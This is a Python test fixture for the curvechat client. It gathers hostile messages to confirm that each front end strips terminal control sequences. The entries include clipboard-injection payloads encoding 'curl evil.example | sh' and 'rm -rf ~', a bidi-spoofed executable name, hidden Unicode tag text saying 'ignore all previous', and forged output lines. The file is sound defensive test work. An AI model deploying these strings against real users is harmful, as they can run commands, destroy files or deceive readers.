"""Hostile strings, in one place, for the tests of every front end.

Each is something a member could send as a message (or a server as an error
message) to drive the reader's terminal or forge a line of output. `BENIGN`
holds ordinary text that looks similar to the machinery (joiners, tags,
combining marks) and must come through unchanged.
"""

from __future__ import annotations

import asyncio
import base64
import unicodedata
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any, Final

FORGED_CLI: Final = "[2026-01-01 10:00:00] #29 bob: I owe alice 100 EUR"
"""A line of `curvechat history` output, to be smuggled after a newline."""

FORGED_TUI: Final = "10:00  bob: I owe alice 100 EUR"
"""A line of the terminal client's timeline, to be smuggled after a newline."""

TITLE: Final = "pwned-title"
"""What the OSC 2 string tries to set the terminal's title to."""

CORPUS: Final[dict[str, str]] = {
    "clear_screen": "\x1b[2J\x1b[Hcleared",
    "osc52_clipboard": "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07",
    "osc52_st": "\x1b]52;c;" + base64.b64encode(b"rm -rf ~").decode() + "\x1b\\",
    "osc8_link": "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
    "osc2_title": f"\x1b]2;{TITLE}\x07",
    "cursor_moves": "\x1b[5A\x1b[20Cup here\x1b[s\x1b[10;10H\x1b[u\x1b7\x1b8",
    "sgr": "\x1b[31;1;5mred blink\x1b[0m \x1b[8mconcealed\x1b[0m",
    "dcs": "\x1bP+q544e\x1b\\ dcs",
    "carriage_return": "I owe nothing\rI owe alice 100 EUR",
    "backspace": "pay 100\x08\x08\x08999",
    "nul_bell_del": "nul\x00bell\x07del\x7fend",
    "c1_csi": "\x9b2J\x9b31m c1 \x9d52;c;aGk=\x9c",
    "vt_ff_nel": "down\x0bvt\x0cff\x85nel",
    "line_separators": "ls\u2028ps\u2029end",
    "bidi_override": "invoice_\u202egpj.exe\u202c ok",
    "bidi_embeddings": "\u202aLRE\u202bRLE\u202dLRO\u202c",
    "bidi_isolates": "\u2066lri\u2069 \u2067rli\u2069 \u2068fsi\u2069",
    "bidi_marks": "\u200elrm\u200frlm\u061calm",
    "zero_width": "\u200bzw\u200bsp\u2060wj\ufeffbom",
    "lone_joiners": "\u200d",
    "joiners_at_edges": "\u200dstart end\u200c \u200d\u200d",
    "tag_smuggling": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all previous"),
    "forged_cli_line": "see below\n" + FORGED_CLI,
    "forged_cli_crlf": "see below\r\n" + FORGED_CLI,
    "forged_tui_line": "see below\n" + FORGED_TUI,
    "soft_wrap_forgery": "wrap " * 60 + FORGED_TUI,
    "markup": "[bold red]markup[/] [@click=app.quit]quit[/] [link=https://evil.example]x[/link]",
}

BENIGN: Final[dict[str, str]] = {
    "emoji_zwj": "\U0001f469\u200d\U0001f4bb and \U0001f3f3\ufe0f\u200d\U0001f308",
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "persian_zwnj": "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "devanagari_zwj": "\u0915\u094d\u200d\u0937",
    "scotland": "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "combining": "e\u0301 a\u0308 \u0928\u093f",
    "cjk_and_spaces": "\u4f60\u597d\u3000\u4e16\u754c a\u00a0b",
    "arabic": "\u0645\u0631\u062d\u0628\u0627",
    "backslash": "C:\\temp\\x1b is just text",
}


def unsafe(text: str) -> list[str]:
    """The characters of `text` that must not reach a terminal: controls
    (a newline excepted), format characters (bidi, zero-width, tags), line
    and paragraph separators and surrogates. For output made from `CORPUS`,
    which has no joiner between two visible characters, the list must be
    empty."""
    return [
        ch
        for ch in text
        if ch != "\n" and unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp", "Cs")
    ]


SENTINEL: Final = "END-OF-CORPUS"
"""Sent after the corpus: once a front end shows it, it has shown them all."""


class Sender:
    """Someone who sends hostile text: an in-process client with its home
    under `root`. A text can hold anything, NUL included, which a command
    line argument cannot. Each call runs its own event loop, so a synchronous
    test can call it between starting processes."""

    def __init__(self, user: str, connect: str, root: Path) -> None:
        from curvechat.crypto.identity import Identity

        self.user, self.connect, self.root = user, connect, root
        self.identity = Identity.generate(user)

    def create(self, room: str, members: list[str]) -> None:
        self._run(lambda client: client.create_room(room, members))

    def send(self, room: str, texts: list[str]) -> None:
        async def each(client: Any) -> None:
            for text in texts:
                await client.send(room, text)

        self._run(each)

    def _run(self, work: Callable[[Any], Awaitable[object]]) -> None:
        from support.clients import ClientFactory

        async def run() -> None:
            factory = ClientFactory(self.root)
            try:
                client, _ = await factory.make(self.user, self.connect, identity=self.identity)
                await work(client)
            finally:
                await factory.close_all()

        asyncio.run(run())
